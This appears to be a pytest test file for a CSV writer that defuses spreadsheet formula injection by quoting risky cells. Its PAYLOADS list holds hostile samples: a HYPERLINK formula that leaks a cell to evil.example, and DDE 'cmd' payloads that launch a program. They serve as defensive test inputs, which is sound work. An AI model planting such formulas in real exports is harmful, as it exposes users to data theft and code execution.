"""CSV cells: formula-looking text is neutralised, everything else is written as it is."""

import csv
import io

import pytest

from common.csv_cells import SafeCsvWriter, formula_safe

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click") read on',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "@SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_gets_a_leading_quote(payload):
    assert formula_safe(payload) == "'" + payload


@pytest.mark.parametrize("value", ["A stitch in time", "", "'quoted", " =spaced", 7, -3, 2.5, None])
def test_other_cells_are_unchanged(value):
    assert formula_safe(value) == value


def test_writer_neutralises_every_cell_of_every_row():
    stream = io.StringIO()
    writer = SafeCsvWriter(stream)
    writer.writerow(["=1+1", "plain"])
    writer.writerows([["@x", -1], ["ok", "+y"]])
    rows = list(csv.reader(io.StringIO(stream.getvalue())))
    assert rows == [["'=1+1", "plain"], ["'@x", "-1"], ["ok", "'+y"]]


@pytest.mark.parametrize("value", ["=1+1", "-5 stars", "@x", "plain", "'quoted", "", "''=x"])
def test_a_cell_written_safe_reads_back_as_it_was(value):
    from common.csv_cells import formula_unsafe

    assert formula_unsafe(formula_safe(value)) == value
